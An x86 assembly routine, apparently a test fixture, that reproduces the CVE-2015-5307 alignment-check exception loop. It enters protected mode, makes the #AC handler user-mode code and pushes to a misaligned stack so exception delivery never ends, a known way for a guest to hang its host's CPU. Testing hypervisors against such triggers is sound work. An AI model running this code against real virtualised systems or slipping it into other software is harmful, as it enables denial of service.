; Endless alignment checks, as in CVE-2015-5307: a 32-bit processor in user mode with a stack that is not aligned, whose
; handler of #AC is user mode as well, so that delivering the exception is the next one. Copied to 9000h; a start-up IPI
; begins here. At 9ff0h it says that it has arrived.
	global attack_ac_start, attack_ac_end
BASE	equ 0x9000
SAYS	equ 0x9ff0

	section .text
	bits 16
attack_ac_start:
	cli
	xor	ax, ax
	mov	ds, ax
	o32 lgdt [BASE + gdt_pointer - attack_ac_start]
	o32 lidt [BASE + idt_pointer - attack_ac_start]
	mov	eax, 0x40011			; AM, ET, PE
	mov	cr0, eax
	jmp	dword 0x08:BASE + protected - attack_ac_start
	bits 32
protected:
	mov	eax, 0x10
	mov	ds, eax
	mov	ss, eax
	mov	esp, 0x9e00
	; the gate of #AC: user code
	mov	dword [BASE + gate - attack_ac_start], 0x001b0000 + BASE + user - attack_ac_start
	mov	dword [BASE + gate - attack_ac_start + 4], 0x0000ee00
	push	dword 0x23
	push	dword 0x9d01			; not aligned
	push	dword 0x40002			; AC
	push	dword 0x1b
	push	dword BASE + user - attack_ac_start
	iretd
user:
	mov	ax, 0x23
	mov	ds, ax
	mov	dword [SAYS], 1
	mov	esp, 0x9d01			; where delivering it is not checked, the stack must not run down
	push	eax				; #AC, and its frame is the next
	jmp	user
	align	8, db 0
gdt:
	dq	0
	dq	0x00cf9b000000ffff
	dq	0x00cf93000000ffff
	dq	0x00cffb000000ffff		; 18h
	dq	0x00cff3000000ffff		; 20h
gdt_pointer:
	dw	$ - gdt - 1
	dd	BASE + gdt - attack_ac_start
idt_pointer:
	dw	17 * 8 + 7
	dd	BASE + gate - attack_ac_start - 17 * 8
	align	8, db 0
gate:
	dq	0
attack_ac_end:
